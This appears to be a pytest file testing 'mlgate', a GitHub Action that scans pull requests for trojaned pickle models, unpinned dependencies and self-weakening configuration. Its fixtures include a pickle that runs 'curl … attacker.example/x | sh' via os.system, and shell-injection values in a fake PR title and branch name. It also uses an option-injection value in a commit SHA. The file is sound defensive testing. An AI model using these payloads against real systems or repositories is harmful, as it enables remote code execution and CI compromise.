"""The composite action (action.yml), run for real on a simulated pull request.

What is real: each step's `run:` script, executed by bash as the runner does
(`bash --noprofile --norc -eo pipefail`), with the step's `env:`; the install step creating a
virtual environment and installing the hash-pinned requirements with pip, then mlgate from the
action's checkout; the scan of a git repository with a base and a head commit; the files the
step writes ($GITHUB_OUTPUT, $GITHUB_STEP_SUMMARY, the SARIF file) and its exit status.

What is simulated: the runner itself. This harness evaluates the few `${{ }}` expressions that
action.yml uses (`inputs.*` in `env:`, `steps.*.outputs.*` in the action's outputs, `github.token`
in an input's default, and fails on any other), sets the GITHUB_* variables, writes the
pull_request event payload, and decodes
the workflow commands the step prints as the runner would. The package index is a local folder
of the same wheels (PIP_NO_INDEX + PIP_FIND_LINKS): pip still checks every hash in
action/requirements.txt. The folder comes from MLGATE_WHEELHOUSE, which .ci/run fills with
`pip download -r action/requirements.txt`; without it these tests are skipped, never faked.
"""

from __future__ import annotations

import json
import os
import pickle
import re
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from ruamel.yaml import YAML

from httpfake import FakeServer
from mlgate import github_action
from precommit_env import REPO, git, init_repo
from test_reports import parse_command, validate_sarif

ACTION = YAML(typ="safe", pure=True).load((REPO / "action.yml").read_text(encoding="utf-8"))
RUNNER_TOKEN = "ghs_the-jobs-own-token"  # what `${{ github.token }}` is in these runs
EXPRESSION = re.compile(r"\$\{\{\s*(.*?)\s*\}\}")
WHEELHOUSE = os.environ.get("MLGATE_WHEELHOUSE", "")


class DangerousPickle:
    """Pickles to a call of os.system: what a trojaned checkpoint does (never loaded here)."""

    def __reduce__(self):
        return (os.system, ("curl -s https://attacker.example/x | sh",))


@dataclass
class StepRun:
    name: str
    returncode: int
    stdout: str
    stderr: str
    outputs: dict[str, str]


@dataclass
class ActionRun:
    steps: list[StepRun] = field(default_factory=list)
    outputs: dict[str, str] = field(default_factory=dict)
    summary: str = ""
    seconds: float = 0.0

    @property
    def returncode(self) -> int:
        return next((step.returncode for step in self.steps if step.returncode != 0), 0)

    def annotations(self) -> list[tuple[str, dict[str, str], str]]:
        return [parse_command(line) for step in self.steps for line in step.stdout.splitlines() if line.startswith("::")]

    def log(self) -> str:
        return "\n".join(f"--- {s.name} ({s.returncode})\n{s.stdout}{s.stderr}" for s in self.steps)


def evaluate(text: str, contexts: dict[str, dict]) -> str:
    """Replace each `${{ expression }}`; only `inputs.NAME`, `steps.ID.outputs.NAME` and `github.token` exist here."""

    def value(match: re.Match) -> str:
        expression = match.group(1)
        if expression == "github.token" and "github" in contexts:
            return contexts["github"]["token"]
        found = re.fullmatch(r"inputs\.([A-Za-z0-9_-]+)", expression)
        if found:
            return contexts["inputs"][found.group(1)]
        found = re.fullmatch(r"steps\.([A-Za-z0-9_-]+)\.outputs\.([A-Za-z0-9_-]+)", expression)
        if found:
            return contexts["steps"].get(found.group(1), {}).get(found.group(2), "")
        raise AssertionError(f"action.yml uses {expression!r}, which this harness does not evaluate")

    return EXPRESSION.sub(value, text)


def read_outputs(path: Path) -> dict[str, str]:
    """$GITHUB_OUTPUT: `name=value` lines and `name<<DELIMITER` blocks."""
    outputs: dict[str, str] = {}
    lines = iter(path.read_text(encoding="utf-8").splitlines())
    for line in lines:
        if "<<" in line and ("=" not in line or line.index("<<") < line.index("=")):
            name, delimiter = line.split("<<", 1)
            block = []
            for inner in lines:
                if inner == delimiter:
                    break
                block.append(inner)
            outputs[name] = "\n".join(block)
        elif line:
            name, value = line.split("=", 1)
            outputs[name] = value
    return outputs


@dataclass(frozen=True)
class Installation:
    """The action's install step, run for real once (see `installed_action`): its result, and
    the RUNNER_TEMP that holds the virtual environment it made."""

    step: StepRun
    runner_temp: Path


def run_action(
    inputs: dict[str, str],
    workspace: Path,
    event: dict,
    action_path: Path,
    runner: Path,
    wheelhouse: str = WHEELHOUSE,
    installed: Installation | None = None,
    steps: int | None = None,
    env: dict[str, str] | None = None,
) -> ActionRun:
    """Run action.yml's steps (the first `steps` of them). With `installed`, the install step is
    the one already run: its recorded result stands for it and the scan uses its environment.
    `env`: more variables of the runner's (a job's `env:`), under each step's own."""
    runner_context = {"github": {"token": RUNNER_TOKEN}}
    given = {name: evaluate(str(spec.get("default", "")), runner_context) for name, spec in ACTION["inputs"].items()}
    unknown = set(inputs) - set(given)
    assert not unknown, f"not inputs of action.yml: {unknown}"
    given.update(inputs)
    runner.mkdir(parents=True)
    event_path = runner / "event.json"
    event_path.write_text(json.dumps(event), encoding="utf-8")
    summary = runner / "step_summary.md"
    summary.touch()
    base_env = {
        "PATH": os.environ["PATH"],
        "HOME": str(runner),
        "LANG": "C.UTF-8",
        "CI": "true",
        "GITHUB_ACTIONS": "true",
        "GITHUB_WORKSPACE": str(workspace),
        "GITHUB_ACTION_PATH": str(action_path),
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(event_path),
        "GITHUB_STEP_SUMMARY": str(summary),
        "RUNNER_TEMP": str(installed.runner_temp if installed else runner / "temp"),
        # The package index is the local folder of the pinned wheels; pip's own configuration
        # on this machine is left out so that the run is the same everywhere.
        "PIP_CONFIG_FILE": os.devnull,
        "PIP_NO_INDEX": "1",
        "PIP_FIND_LINKS": wheelhouse,
        **(env or {}),
    }
    (runner / "temp").mkdir()
    contexts: dict[str, dict] = {"inputs": given, "steps": {}, **runner_context}
    run = ActionRun()
    started = time.perf_counter()
    for number, step in enumerate(ACTION["runs"]["steps"][:steps]):
        if installed is not None and number == 0:
            assert (step["name"], given["python"]) == (installed.step.name, ACTION["inputs"]["python"]["default"]), "not the installed step"
            run.steps.append(installed.step)
            if "id" in step:
                contexts["steps"][step["id"]] = installed.step.outputs
            if installed.step.returncode != 0:
                break
            continue
        script = runner / f"step{number}.sh"
        script.write_text(step["run"], encoding="utf-8")
        output = runner / f"output{number}"
        output.touch()
        env = {**base_env, "GITHUB_OUTPUT": str(output)}
        env.update({name: evaluate(str(value), contexts) for name, value in (step.get("env") or {}).items()})
        done = subprocess.run(
            ["bash", "--noprofile", "--norc", "-eo", "pipefail", str(script)],
            cwd=workspace,
            env=env,
            capture_output=True,
            text=True,
            timeout=600,
        )
        outputs = read_outputs(output)
        if "id" in step:
            contexts["steps"][step["id"]] = outputs
        run.steps.append(StepRun(step["name"], done.returncode, done.stdout, done.stderr, outputs))
        if done.returncode != 0:
            break  # the runner skips the remaining steps of a failed composite action
    run.seconds = time.perf_counter() - started
    run.outputs = {name: evaluate(spec["value"], contexts) for name, spec in ACTION["outputs"].items()}
    run.summary = summary.read_text(encoding="utf-8")
    return run


@pytest.fixture(scope="module")
def action_path(work_tree_snapshot) -> Path:
    """This repository as a runner checks the action out (a committed snapshot of the work tree)."""
    return work_tree_snapshot


@pytest.fixture(scope="module")
def installed_action(tmp_path_factory, action_path) -> Installation:
    """The install step (a virtual environment, the hash-pinned wheels, mlgate from the action's
    files), run once for the pull-request scenarios: it depends on no input but `python`, which
    they leave at its default. test_a_wheel_that_does_not_match_its_pinned_hash_is_refused runs
    its own."""
    root = tmp_path_factory.mktemp("action-install")
    workspace = root / "workspace"
    init_repo(workspace)
    run = run_action({}, workspace, {}, action_path, root / "runner", steps=1)
    [install] = run.steps
    assert install.returncode == 0, run.log()
    return Installation(install, root / "runner" / "temp")


def pull_request(tmp_path: Path, changes: dict[str, str | bytes | None], base: dict[str, str | bytes] | None = None) -> tuple[Path, dict]:
    """A repository whose base commit already has a risky Dockerfile (not part of the pull
    request, so not reported) and the `base` files, and a head commit with `changes` (None
    deletes a file)."""
    workspace = tmp_path / "workspace"
    init_repo(workspace)
    base_files = {"README.md": "demo\n", "requirements.txt": "torch==2.1.0\n", "Dockerfile": "FROM python:3.11\n", **(base or {})}
    for files in (base_files, changes):
        for name, content in files.items():
            path = workspace / name
            path.parent.mkdir(parents=True, exist_ok=True)
            if content is None:
                path.unlink()
            else:
                path.write_bytes(content) if isinstance(content, bytes) else path.write_text(content, encoding="utf-8")
        git(workspace, "add", "-A")
        git(workspace, "commit", "-q", "-m", "change")
    base, head = git(workspace, "rev-parse", "HEAD~1", "HEAD").split()
    # Branch name and title are the attacker's: the action must never use them.
    payload = {
        "action": "synchronize",
        "number": 7,
        "pull_request": {
            "number": 7,
            "title": "$(touch pwned) ::error::fake",
            "base": {"sha": base, "ref": "main"},
            "head": {"sha": head, "ref": "x`touch pwned`"},
        },
    }
    return workspace, payload


needs_wheelhouse = pytest.mark.skipif(
    not WHEELHOUSE, reason="MLGATE_WHEELHOUSE is not set: .ci/run downloads the pinned wheels for the action's install step"
)

UNPINNED = [f"package{n:02d}>=1.0" for n in range(12)]


@needs_wheelhouse
def test_pull_request_adding_a_trojaned_model_and_unpinned_requirements_fails_with_annotations(tmp_path, action_path, installed_action):
    workspace, event = pull_request(
        tmp_path,
        {
            "requirements.txt": "torch==2.1.0\n" + "\n".join(UNPINNED) + "\n",
            "models/classifier.bin": pickle.dumps(DangerousPickle(), protocol=2),
        },
    )
    run = run_action({"sarif": "reports/mlgate.sarif"}, workspace, event, action_path, tmp_path / "runner", installed=installed_action)

    assert [(step.name, step.returncode) for step in run.steps] == [("Install mlgate (dependencies pinned by hash)", 0), ("Scan", 1)], (
        run.log()
    )
    assert run.returncode == 1
    install, scan = run.steps
    assert install.stdout.strip() == "mlgate 0.1.0"
    head = event["pull_request"]["head"]["sha"]
    base = event["pull_request"]["base"]["sha"]
    assert scan.stdout.splitlines()[0] == f"mlgate: scanning 2 file(s) changed between {base[:12]} and {head[:12]}"

    annotations = run.annotations()
    # Most severe first; 10 warnings at most (GitHub's limit per step), the 2 others in the log.
    assert [(level, props.get("file"), props.get("line"), props.get("col")) for level, props, _ in annotations] == [
        ("error", "models/classifier.bin", None, None),
        *[("warning", "requirements.txt", str(line), "1") for line in range(2, 12)],
    ]
    level, props, message = annotations[0]
    assert props["title"] == "mlgate MOD001 pickle-dangerous-call [critical]"
    assert message.startswith("pickle calls posix.system via REDUCE: runs processes or shell commands (byte offset ")
    assert message.endswith("\nfix: do not load this file; if it is yours, re-save the weights as safetensors (mlgate explain MOD001)")
    assert annotations[1][1]["title"] == "mlgate PIN001 unpinned-requirement [medium]"
    log_lines = scan.stdout.splitlines()
    assert log_lines[-3:] == [
        "mlgate: requirements.txt:12:1: PIN001 [medium] 'package10' is not pinned to one version ('>=1.0' allows others): a new release, or a hijacked one, is installed without review",
        "mlgate: requirements.txt:13:1: PIN001 [medium] 'package11' is not pinned to one version ('>=1.0' allows others): a new release, or a hijacked one, is installed without review",
        "mlgate: 2 more finding(s) not annotated: GitHub shows 10 annotations per level in a step.",
    ]
    assert not (workspace / "pwned").exists()

    assert run.summary.splitlines()[0] == "## mlgate: 13 findings (1 critical, 12 medium) in 2 scanned files"
    assert "| models | 1 | 0 | 0 | 0 | 1 |" in run.summary.splitlines()
    assert "| pins | 0 | 0 | 12 | 0 | 12 |" in run.summary.splitlines()
    assert "the most severe findings are annotated on the diff, **2 more are not** and are listed here only." in run.summary
    assert "Dockerfile" not in run.summary  # risky, but not changed by this pull request

    assert run.outputs == {"findings": "13", "config-changes": "0", "sarif": "reports/mlgate.sarif"}
    report = json.loads((workspace / "reports" / "mlgate.sarif").read_text(encoding="utf-8"))
    validate_sarif(report)
    results = report["runs"][0]["results"]
    assert [(r["ruleId"], r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]) for r in results] == [
        ("MOD001", "models/classifier.bin"),
        *[("PIN001", "requirements.txt")] * 12,
    ]
    print(f"action harness: {run.seconds:.1f} s for a failing pull request")


@needs_wheelhouse
def test_pull_request_without_risky_changes_passes(tmp_path, action_path, installed_action):
    workspace, event = pull_request(tmp_path, {"requirements.txt": "torch==2.1.1\n", "docs/notes.md": "# notes\n"})
    run = run_action({}, workspace, event, action_path, tmp_path / "runner", installed=installed_action)

    assert [(step.name, step.returncode) for step in run.steps] == [("Install mlgate (dependencies pinned by hash)", 0), ("Scan", 0)], (
        run.log()
    )
    assert run.annotations() == []
    assert run.steps[1].stdout.splitlines()[1:] == []
    # Both changed files are scanned: requirements.txt by pins and models, notes.md by models (it sniffs every file).
    assert (
        run.summary
        == "## mlgate: 0 findings in 2 scanned files\n\n| hook | critical | high | medium | low | total |\n|---|---:|---:|---:|---:|---:|\n"
        + "".join(f"| {hook} | 0 | 0 | 0 | 0 | 0 |\n" for hook in sorted(_hook_names()))
        + "\n"
    )
    assert run.outputs == {"findings": "0", "config-changes": "0", "sarif": ""}
    print(f"action harness: {run.seconds:.1f} s for a passing pull request")


@needs_wheelhouse
def test_whole_tree_mode_reports_what_the_pull_request_mode_leaves_out(tmp_path, action_path, installed_action):
    workspace, event = pull_request(tmp_path, {"docs/notes.md": "# notes\n"})
    run = run_action(
        {"changed-files-only": "false", "select": "pins", "fail-on": "high"},
        workspace,
        event,
        action_path,
        tmp_path / "runner",
        installed=installed_action,
    )

    assert [(step.name, step.returncode) for step in run.steps] == [("Install mlgate (dependencies pinned by hash)", 0), ("Scan", 0)], (
        run.log()
    )
    assert run.steps[1].stdout.splitlines()[0] == "mlgate: scanning ."
    assert [(level, props["file"], props["line"], props["col"]) for level, props, _ in run.annotations()] == [
        ("warning", "Dockerfile", "1", "6")
    ]
    assert run.outputs == {"findings": "1", "config-changes": "0", "sarif": ""}  # medium: below fail-on high, so the step passes


@needs_wheelhouse
def test_a_wheel_that_does_not_match_its_pinned_hash_is_refused(tmp_path, action_path):
    tampered = tmp_path / "wheelhouse"
    tampered.mkdir()
    for wheel in Path(WHEELHOUSE).glob("*.whl"):
        (tampered / wheel.name).write_bytes(wheel.read_bytes() + (b"\0" if wheel.name.startswith("ruamel_yaml-") else b""))
    workspace, event = pull_request(tmp_path, {"docs/notes.md": "# notes\n"})
    run = run_action({}, workspace, event, action_path, tmp_path / "runner", wheelhouse=str(tampered))

    assert [(step.name, step.returncode) for step in run.steps] == [("Install mlgate (dependencies pinned by hash)", 1)], run.log()
    assert "THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE" in run.steps[0].stderr
    assert run.outputs == {"findings": "", "config-changes": "", "sarif": ""}


def _hook_names() -> list[str]:
    from mlgate.plugins import HOOK_MODULES

    return list(HOOK_MODULES)


def test_no_expression_is_interpolated_into_a_script():
    for step in ACTION["runs"]["steps"]:
        assert "${{" not in step["run"], step["name"]
        assert set(step) <= {"name", "id", "shell", "env", "run"}, step["name"]
        assert step["shell"] == "bash"
        for value in (step.get("env") or {}).values():
            assert re.fullmatch(r"\$\{\{ inputs\.[a-z-]+ \}\}", value), value


def test_every_input_reaches_the_scan_step_and_is_documented():
    steps = {step["name"]: step for step in ACTION["runs"]["steps"]}
    passed = {value for step in steps.values() for value in (step.get("env") or {}).values()}
    assert passed == {f"${{{{ inputs.{name} }}}}" for name in ACTION["inputs"]}
    assert all(spec["description"] for spec in ACTION["inputs"].values())
    assert all(spec["description"] for spec in ACTION["outputs"].values())


def test_read_outputs_understands_both_forms(tmp_path):
    path = tmp_path / "out"
    path.write_text("a=1\nb<<EOF\nx=y\nz\nEOF\nc=\n")
    assert read_outputs(path) == {"a": "1", "b": "x=y\nz", "c": ""}


def test_the_harness_refuses_expressions_it_does_not_know():
    with pytest.raises(AssertionError, match="github.event.pull_request.title"):
        evaluate("${{ github.event.pull_request.title }}", {"inputs": {}, "steps": {}})
    assert evaluate("a ${{ inputs.x }} b ${{steps.s.outputs.o}}", {"inputs": {"x": "1"}, "steps": {"s": {"o": "2"}}}) == "a 1 b 2"


# ---- the scan step's own decisions, in-process (fast) --------------------------------------


def scan_step(monkeypatch, capsys, workspace: Path, event: dict, **inputs: str) -> tuple[int, list[str], Path]:
    event_path = workspace.parent / "event.json"
    event_path.write_text(json.dumps(event), encoding="utf-8")
    outputs = workspace.parent / "outputs"
    outputs.write_text("")
    monkeypatch.chdir(workspace)
    for name in ("SELECT", "IGNORE", "PATHS", "CHANGED_FILES_ONLY", "FAIL_ON", "CONFIG", "SARIF", "BASELINE", "ONLINE"):
        monkeypatch.setenv(f"MLGATE_{name}", inputs.get(name.lower(), ""))
    monkeypatch.setenv("GITHUB_EVENT_NAME", inputs.get("event_name", "pull_request"))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(event_path))
    monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
    if inputs.get("summary"):
        monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(workspace.parent / "summary.md"))
    else:
        monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    code = github_action.main()
    return code, capsys.readouterr().out.splitlines(), outputs


def test_a_payload_sha_that_is_not_a_sha_never_reaches_git(tmp_path, monkeypatch, capsys):
    workspace, event = pull_request(tmp_path, {"docs/notes.md": "# notes\n"})
    event["pull_request"]["base"]["sha"] = "--output=/tmp/x HEAD"
    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="pins")
    assert lines[:3] == [
        "::warning::mlgate: the base commit's configuration cannot be read (pull_request.base.sha in the event payload is not a commit SHA): the default configuration is used",
        "::warning::mlgate: scanning the whole tree: pull_request.base.sha in the event payload is not a commit SHA",
        "mlgate: scanning .",
    ]
    assert code == 1  # the whole tree has the base commit's Dockerfile


def test_a_base_commit_missing_from_a_shallow_checkout_means_the_whole_tree(tmp_path, monkeypatch, capsys):
    workspace, event = pull_request(tmp_path, {"docs/notes.md": "# notes\n"})
    event["pull_request"]["base"]["sha"] = "0" * 40
    code, lines, outputs = scan_step(monkeypatch, capsys, workspace, event, select="pins", fail_on="high")
    missing = f"commit {'0' * 40} is not in the checkout (use actions/checkout with fetch-depth: 0)"
    assert lines[:3] == [
        f"::warning::mlgate: the base commit's configuration cannot be read ({missing}): the default configuration is used",
        f"::warning::mlgate: scanning the whole tree: {missing}",
        "mlgate: scanning .",
    ]
    assert (code, outputs.read_text()) == (0, "findings=1\nconfig-changes=0\nsarif=\n")


def test_changed_files_only_true_outside_a_pull_request_scans_the_whole_tree(tmp_path, monkeypatch, capsys):
    workspace, _ = pull_request(tmp_path, {"docs/notes.md": "# notes\n"})
    code, lines, _ = scan_step(
        monkeypatch, capsys, workspace, {"ref": "refs/heads/main"}, select="pins", changed_files_only="true", event_name="push"
    )
    assert lines[:2] == ["::warning::mlgate: scanning the whole tree: the event payload has no pull_request", "mlgate: scanning ."]
    assert code == 1


def test_paths_limit_the_changed_files(tmp_path, monkeypatch, capsys):
    workspace, event = pull_request(tmp_path, {"app/requirements.txt": "numpy\n", "other/requirements.txt": "torch\n"})
    code, lines, outputs = scan_step(monkeypatch, capsys, workspace, event, select="pins", paths="app\n")
    assert lines[0].endswith(
        "scanning 1 file(s) changed between "
        + event["pull_request"]["base"]["sha"][:12]
        + " and "
        + event["pull_request"]["head"]["sha"][:12]
    )
    assert [line.split("::")[1] for line in lines[1:]] == [
        "warning file=app/requirements.txt,line=1,col=1,title=mlgate PIN001 unpinned-requirement [medium]"
    ]
    assert (code, outputs.read_text()) == (1, "findings=1\nconfig-changes=0\nsarif=\n")


@pytest.mark.parametrize(
    ("inputs", "message"),
    [
        ({"changed_files_only": "maybe"}, "::error::mlgate: changed-files-only must be auto, true or false, not 'maybe'"),
        ({"select": "nosuchhook"}, "::error::mlgate: --select: unknown hook or rule code 'nosuchhook'"),
        ({"baseline": "missing.json"}, "::error::mlgate: missing.json: baseline file not found"),
        ({"fail_on": "severe"}, "::error::mlgate: argument --fail-on: invalid choice: 'severe'"),
        ({"online": "yes"}, "::error::mlgate: online must be true or false, not 'yes'"),
    ],
)
def test_bad_inputs_are_usage_errors(tmp_path, monkeypatch, capsys, inputs, message):
    workspace, event = pull_request(tmp_path, {"docs/notes.md": "# notes\n"})
    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, **inputs)
    assert code == 2
    assert lines[-1].startswith(message), lines


# ---- the online input ------------------------------------------------------------------------

SHA = "11bd71901bbe5b1630ceea73d27597364c9af683"
DIGEST = "sha256:" + "ab" * 32
WORKFLOW = "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
ONLINE_CHANGES = {".github/workflows/ci.yml": WORKFLOW, "requirements.txt": "torch==2.1.1\n", "Dockerfile": "FROM python:3.12\n"}


@pytest.fixture
def endpoints(tmp_path):
    """The GitHub API on one fake server, OSV and Docker Hub on another: (api, elsewhere, the
    runner's variables that point there). HF_TOKEN is set too, as a job's `env:` would."""
    api, elsewhere = FakeServer(), FakeServer()
    api.reply("GET", "/repos/actions/checkout/commits/v4", body={"sha": SHA})
    elsewhere.reply("POST", "/v1/querybatch", body={"results": [{}]})
    elsewhere.reply("HEAD", "/v2/library/python/manifests/3.12", headers={"Docker-Content-Digest": DIGEST})
    # the cooldown (PIN032) asks PyPI when the exact pin was released: long ago
    elsewhere.reply("GET", "/pypi/torch/2.1.1/json", body={"urls": [{"upload_time_iso_8601": "2023-11-15T18:41:55.561744Z"}]})
    variables = {
        "GITHUB_API_URL": api.url,
        "MLGATE_OSV_URL": elsewhere.url,
        "MLGATE_PYPI_URL": elsewhere.url,
        "MLGATE_REGISTRY_URLS": f"docker.io={elsewhere.url}",
        "HF_ENDPOINT": elsewhere.url,
        "HF_TOKEN": "hf_the-hubs-token",
        "MLGATE_CACHE_DIR": str(tmp_path / "cache"),
    }
    yield api, elsewhere, variables
    api.close()
    elsewhere.close()


def sent_headers(*servers: FakeServer) -> list[tuple[str, str | None]]:
    return [(request.path, request.headers.get("authorization")) for server in servers for request in server.requests]


def assert_looked_up_online(messages: dict[str, str], api: FakeServer, elsewhere: FakeServer) -> None:
    """The messages say what the tag and the image are today; only the GitHub API got the token."""
    assert messages["PIN020"].endswith(f"'v4' is commit {SHA} today")
    assert messages["PIN010"].endswith(f"it is {DIGEST} today")
    assert sent_headers(api) == [("/repos/actions/checkout/commits/v4", f"Bearer {RUNNER_TOKEN}")]
    assert sorted(sent_headers(elsewhere)) == [
        ("/pypi/torch/2.1.1/json", None),
        ("/v1/querybatch", None),
        ("/v2/library/python/manifests/3.12", None),
    ]
    assert not any(RUNNER_TOKEN in str(request.headers) or "hf_" in str(request.headers) for request in elsewhere.requests)


def test_the_online_input_looks_up_tags_and_sends_the_token_to_the_github_api_only(tmp_path, monkeypatch, capsys, endpoints):
    api, elsewhere, variables = endpoints
    for name, value in {**variables, "GITHUB_TOKEN": RUNNER_TOKEN}.items():  # what action.yml's scan step is given
        monkeypatch.setenv(name, value)
    workspace, event = pull_request(tmp_path, ONLINE_CHANGES)

    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="pins")
    assert code == 1
    assert (api.requests, elsewhere.requests) == ([], [])  # `online` is off by default: nothing is sent

    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="pins", online="true")
    assert code == 1
    annotations = [parse_command(line) for line in lines if line.startswith("::")]
    assert [(props["file"], props["title"]) for _, props, _ in annotations] == [
        (".github/workflows/ci.yml", "mlgate PIN020 action-not-pinned [high]"),
        ("Dockerfile", "mlgate PIN010 image-not-digest [medium]"),
    ]
    assert_looked_up_online({props["title"].split()[1]: message.split("\nfix: ")[0] for _, props, message in annotations}, api, elsewhere)


@needs_wheelhouse
def test_the_action_with_online_true_installs_requests_and_looks_up_online(tmp_path, action_path, installed_action, endpoints):
    api, elsewhere, variables = endpoints
    workspace, event = pull_request(tmp_path, ONLINE_CHANGES)
    run = run_action(
        {"online": "true", "select": "pins"}, workspace, event, action_path, tmp_path / "runner", installed=installed_action, env=variables
    )

    assert [(step.name, step.returncode) for step in run.steps] == [("Install mlgate (dependencies pinned by hash)", 0), ("Scan", 1)], (
        run.log()
    )
    annotations = run.annotations()
    assert [(props["file"], props["title"]) for _, props, _ in annotations] == [
        (".github/workflows/ci.yml", "mlgate PIN020 action-not-pinned [high]"),
        ("Dockerfile", "mlgate PIN010 image-not-digest [medium]"),
    ]
    assert_looked_up_online({props["title"].split()[1]: message.split("\nfix: ")[0] for _, props, message in annotations}, api, elsewhere)
    assert "mlgate: online" not in run.log()  # no progress line: the job log is no terminal


# ---- a pull request does not set its own gate -------------------------------------------------

TROJAN = pickle.dumps(DangerousPickle(), protocol=2)
TROJAN_SHA256 = __import__("hashlib").sha256(TROJAN).hexdigest()
SELF_ALLOWLISTING = f"""\
fail-on: critical
ignore: [PIN001]
severity: {{MOD001: low}}
models:
  allowlist:
    - {{path: models/classifier.bin, sha256: {TROJAN_SHA256}, reason: reviewed}}
  allowed-callables: [posix.system, os.system]
"""
CHANGE = (
    "this pull request {verb} {what}; the scan used the base commit's, so the change has no effect on this run: "
    "review it before merging (it sets the gate of every later pull request)"
)


def first_command(lines: list[str]) -> tuple[str, dict[str, str], str]:
    return parse_command(next(line for line in lines if line.startswith("::")))


def annotations_of(lines: list[str]) -> list[tuple[str, str | None, str | None, str]]:
    commands = [parse_command(line) for line in lines if line.startswith("::")]
    return [(level, props.get("file"), props.get("line"), props.get("title", "")) for level, props, _ in commands]


def test_a_pull_request_that_allowlists_its_own_payload_changes_nothing(tmp_path, monkeypatch, capsys):
    workspace, event = pull_request(
        tmp_path,
        {
            ".mlgate.yaml": SELF_ALLOWLISTING,
            "models/classifier.bin": TROJAN,
            "requirements.txt": "torch>=2\n",
        },
    )
    code, lines, outputs = scan_step(monkeypatch, capsys, workspace, event)
    assert code == 1
    assert annotations_of(lines) == [
        ("error", ".mlgate.yaml", "1", "mlgate: configuration changed by this pull request"),
        ("error", "models/classifier.bin", None, "mlgate MOD001 pickle-dangerous-call [critical]"),
        ("warning", "requirements.txt", "1", "mlgate PIN001 unpinned-requirement [medium]"),
    ]
    assert first_command(lines)[2] == CHANGE.format(verb="adds", what="the mlgate configuration")
    assert outputs.read_text() == "findings=2\nconfig-changes=1\nsarif=\n"
    # What the attack does without the base commit's configuration (a push of the same tree):
    # the payload is allowlisted, PIN001 ignored, and the run passes.
    code, lines, _ = scan_step(monkeypatch, capsys, workspace, {}, event_name="push")
    assert (code, annotations_of(lines)) == (0, [("warning", "Dockerfile", "1", "mlgate PIN010 image-not-digest [medium]")])


def test_the_base_commits_configuration_is_the_one_used(tmp_path, monkeypatch, capsys):
    base = {".mlgate.yaml": "ignore: [PIN001]\n"}
    workspace, event = pull_request(
        tmp_path,
        {
            ".mlgate.yaml": "ignore: [PIN001, models]\nfail-on: critical\n",
            "requirements.txt": "torch>=2\n",
            "models/classifier.bin": TROJAN,
        },
        base=base,
    )
    code, lines, outputs = scan_step(monkeypatch, capsys, workspace, event, summary=True)
    assert code == 1
    assert annotations_of(lines) == [
        ("error", ".mlgate.yaml", "1", "mlgate: configuration changed by this pull request"),
        ("error", "models/classifier.bin", None, "mlgate MOD001 pickle-dangerous-call [critical]"),
    ]  # PIN001 stays ignored: the base says so
    assert first_command(lines)[2] == CHANGE.format(verb="changes", what="the mlgate configuration")
    summary = (workspace.parent / "summary.md").read_text(encoding="utf-8")
    assert "### Configuration changed by this pull request" in summary
    assert f"| ` .mlgate.yaml:1 ` | ` {CHANGE.format(verb='changes', what='the mlgate configuration')} ` |" in summary.splitlines()


def test_a_pyproject_mlgate_table_added_or_removed_is_a_change_and_other_edits_are_not(tmp_path, monkeypatch, capsys):
    pyproject = '[project]\nname = "demo"\n\n[tool.mlgate]\nignore = ["models"]\n'
    workspace, event = pull_request(tmp_path, {"pyproject.toml": pyproject, "models/classifier.bin": TROJAN})
    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="models")
    assert (code, annotations_of(lines)) == (
        1,
        [
            ("error", "pyproject.toml", "4", "mlgate: configuration changed by this pull request"),
            ("error", "models/classifier.bin", None, "mlgate MOD001 pickle-dangerous-call [critical]"),
        ],
    )
    assert first_command(lines)[2] == CHANGE.format(verb="adds", what="the mlgate table [tool.mlgate]")

    edited = pyproject.replace('name = "demo"', 'name = "demo"\nversion = "2"')
    workspace, event = pull_request(tmp_path / "again", {"pyproject.toml": edited}, base={"pyproject.toml": pyproject})
    code, lines, outputs = scan_step(monkeypatch, capsys, workspace, event, select="models")
    assert (code, annotations_of(lines), outputs.read_text()) == (0, [], "findings=0\nconfig-changes=0\nsarif=\n")

    workspace, event = pull_request(tmp_path / "removed", {"pyproject.toml": None}, base={"pyproject.toml": pyproject})
    code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="models")
    assert (code, annotations_of(lines)) == (1, [("error", "pyproject.toml", None, "mlgate: configuration changed by this pull request")])
    assert first_command(lines)[2] == CHANGE.format(verb="removes", what="the mlgate table [tool.mlgate]")


def test_a_pull_request_cannot_baseline_its_own_findings(tmp_path, monkeypatch, capsys):
    # The fingerprint of the new finding, as `mlgate baseline` would write it on the head.
    probe = tmp_path / "probe"
    probe.mkdir()
    (probe / "requirements.txt").write_text("torch>=2\n", encoding="utf-8")
    monkeypatch.chdir(probe)
    from mlgate.cli import main as cli

    assert cli(["baseline", "--select", "pins", "--output", "baseline.json", "requirements.txt"]) == 0
    own = (probe / "baseline.json").read_text(encoding="utf-8")
    empty = json.dumps({"version": 1, "findings": []})
    for how, base, changes, inputs in [
        ("input", {"ci/baseline.json": empty}, {"ci/baseline.json": own}, {"baseline": "ci/baseline.json"}),
        ("configuration", {".mlgate.yaml": "baseline: ci/baseline.json\n", "ci/baseline.json": empty}, {"ci/baseline.json": own}, {}),
    ]:
        workspace, event = pull_request(tmp_path / how, {"requirements.txt": "torch>=2\n", **changes}, base=base)
        code, lines, _ = scan_step(monkeypatch, capsys, workspace, event, select="pins", **inputs)
        assert (code, annotations_of(lines)) == (
            1,
            [
                ("error", "ci/baseline.json", "1", "mlgate: configuration changed by this pull request"),
                ("warning", "requirements.txt", "1", "mlgate PIN001 unpinned-requirement [medium]"),
            ],
        ), how
        what = "the baseline file" if how == "input" else "the baseline the configuration names"
        assert first_command(lines)[2] == CHANGE.format(verb="changes", what=what)


